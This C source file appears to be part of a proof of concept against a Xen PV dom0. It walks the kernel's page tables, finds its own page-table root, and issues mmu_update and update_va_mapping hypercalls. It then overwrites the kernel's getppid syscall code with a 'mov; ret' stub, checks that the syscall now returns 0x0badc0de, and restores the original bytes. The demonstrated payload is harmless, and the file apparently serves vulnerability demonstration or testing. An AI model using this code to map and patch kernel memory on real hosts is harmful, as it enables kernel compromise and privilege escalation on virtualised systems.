// SPDX-License-Identifier: GPL-2.0-only
/*
 * Page tables of a PV dom0, read without asking Xen: root can read the kernel's
 * memory. And code that shows, once it runs, that the kernel's code was changed.
 */
#include "paging.h"

#include <sched.h>
#include <sys/syscall.h>

static uint64_t read_word(uint64_t address)
{
    uint64_t word = 0;

    return address && read_kernel(address, &word, sizeof(word)) ? word : 0;
}

/* The kernel maps all of memory in one piece, from here on. */
static uint64_t direct_map(void)
{
    static const uint64_t unless_randomised = 0xffff888000000000;
    const uint64_t base = read_word(kernel_symbol("page_offset_base"));

    return base ? base : unless_randomised;
}

uint64_t entry_at(uint64_t table_page, uint64_t address, unsigned int level)
{
    const uint64_t index = (address >> (12 + 9 * (level - 1))) & 0x1ff;

    return read_word(direct_map() + (table_page * 512 + index) * sizeof(index));
}

struct pte find_pte(uint64_t root, uint64_t address, unsigned int level)
{
    struct pte pte = { 0, 0 };
    uint64_t table = root, frame = frame_of_page(root);

    for ( unsigned int at = 4; table && at >= level; at-- )
    {
        const uint64_t index = (address >> (12 + 9 * (at - 1))) & 0x1ff;

        pte.value = entry_at(table, address, at);
        pte.where = frame * PAGE_SIZE + index * sizeof(pte.value);
        if ( at == level )
            return pte;

        frame = PTE_FRAME(pte.value);
        table = frame ? page_of_frame(frame) : 0;
    }

    return (struct pte){ 0, 0 };
}

uint64_t kernel_root(void)
{
    return kernel_page_number(kernel_symbol("init_top_pgt"));
}

/* The kernel remembers for each CPU which table it runs on: ours. */
uint64_t own_root(void)
{
    stay_on_cpu(0);
    return read_word(per_cpu("xen_cr3", 0)) / PAGE_SIZE;
}

uint64_t kernel_alias(const void *page)
{
    const uint64_t number = own_page_number(page);

    return number ? direct_map() + number * PAGE_SIZE : 0;
}

uint64_t per_cpu(const char *symbol, unsigned int cpu)
{
    const uint64_t offsets = kernel_symbol("__per_cpu_offset"),
                   offset = offsets ? read_word(offsets + cpu * sizeof(offset))
                                    : 0,
                   variable = kernel_symbol(symbol);

    return offset && variable ? offset + variable : 0;
}

long update_entry(uint64_t where, uint64_t value)
{
    mmu_update_t update = { .ptr = where, .val = value };

    return hypercall4(__HYPERVISOR_mmu_update, &update, 1, 0, DOMID_SELF);
}

long map_own(const void *page, uint64_t frame)
{
    return hypercall3(__HYPERVISOR_update_va_mapping, page,
                      frame * PAGE_SIZE | PTE_USER | PTE_NX,
                      UVMF_INVLPG | UVMF_ALL);
}

void stay_on_cpu(unsigned int cpu)
{
    cpu_set_t one;

    CPU_ZERO(&one);
    CPU_SET(cpu, &one);
    sched_setaffinity(0, sizeof(one), &one);
}

/* mov $lie, %eax; ret: what getppid() runs once it has been overwritten. */
static const uint32_t lie = 0x0badc0de;
const uint8_t lying_code[LYING_CODE_SIZE] = {
    0xb8, 0xde, 0xc0, 0xad, 0x0b, 0xc3
};

bool getppid_lies(void)
{
    return (uint32_t)syscall(SYS_getppid) == lie;
}

uint64_t getppid_code(void)
{
    return kernel_symbol("__x64_sys_getppid");
}

bool patch_through(uint8_t *page)
{
    uint8_t *code = page + getppid_code() % PAGE_SIZE;
    uint8_t original[LYING_CODE_SIZE];
    bool lied;

    if ( !read_kernel(getppid_code(), original, sizeof(original)) ||
         memcmp(code, original, sizeof(original)) )
        return false;

    memcpy(code, lying_code, sizeof(original));
    lied = getppid_lies();
    memcpy(code, original, sizeof(original));

    return lied;
}
